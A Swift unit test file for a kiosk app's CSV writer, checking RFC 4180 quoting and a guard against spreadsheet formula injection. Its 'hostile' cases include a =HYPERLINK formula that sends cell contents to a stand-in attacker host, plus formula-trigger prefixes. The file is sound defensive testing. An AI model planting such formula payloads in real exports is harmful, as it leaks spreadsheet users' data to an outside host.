import KioskCore
import Testing

/// The one CSV writer: RFC 4180 quoting and OWASP's formula-injection guard.
@Suite struct CSVWriterTests {
    @Test(
        "hostile cells are neutralised with a leading apostrophe, and quoted when they need it",
        arguments: [
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\""
            ),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("-2", "'-2"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("\r\n=1", "\"'\r\n=1\""),
            ("=\u{301}1", "'=\u{301}1"),
        ])
    func hostile(_ value: String, _ written: String) {
        #expect(CSVWriter.cell(value) == written)
    }

    @Test(
        "ordinary cells keep their text; quotes, commas and line breaks are quoted",
        arguments: [
            ("", ""), ("13800138000", "13800138000"), ("attempt=1/5", "attempt=1/5"), ("张晓梅", "张晓梅"),
            ("a \"quoted\" word", "\"a \"\"quoted\"\" word\""),
            ("北京市东城区,东四北大街1号", "\"北京市东城区,东四北大街1号\""),
            ("第一行\n第二行", "\"第一行\n第二行\""),
            ("第一行\r\n第二行", "\"第一行\r\n第二行\""),
            ("\"\u{301}", "\"\"\"\u{301}\""),
        ])
    func ordinary(_ value: String, _ written: String) {
        #expect(CSVWriter.cell(value) == written)
    }

    @Test("a document is the header and each row, every line ended by CRLF")
    func document() {
        let text = CSVWriter.document(header: ["name", "note"], rows: [["张三", "=1"], ["李四", "a,b"]])
        #expect(text == "name,note\r\n张三,'=1\r\n李四,\"a,b\"\r\n")
        #expect(CSVWriter.document(header: ["id"], rows: []) == "id\r\n")
    }
}
